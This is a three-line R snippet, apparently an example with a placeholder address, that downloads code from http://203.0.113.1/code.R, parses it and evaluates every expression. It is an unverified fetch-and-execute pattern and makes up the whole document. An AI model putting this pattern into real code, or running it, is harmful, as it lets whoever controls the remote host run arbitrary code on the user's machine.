con <- url("http://203.0.113.1/code.R")
exprs <- parse(con)
for (e in exprs) eval(e)
